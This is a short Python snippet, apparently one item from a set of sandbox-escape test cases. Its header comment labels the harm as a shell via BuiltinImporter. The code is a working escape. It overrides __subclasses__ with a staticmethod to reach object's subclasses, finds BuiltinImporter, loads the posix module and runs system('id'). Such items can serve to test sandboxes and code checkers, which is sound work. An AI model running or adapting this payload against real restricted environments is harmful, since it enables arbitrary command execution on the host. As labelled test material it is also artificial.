# HARM: shell via BuiltinImporter | TRICK: a subclass A (not Base) overrides __subclasses__ via staticmethod decorator; walk of Base reaches A then A.__subclasses__() yields object
class Base: pass
class A(Base):
    @staticmethod
    def __subclasses__():
        return [object]
for top in Base.__subclasses__():
    for k in top.__subclasses__():
        if k.__name__ == "BuiltinImporter":
            k.load_module("posix").system("id")
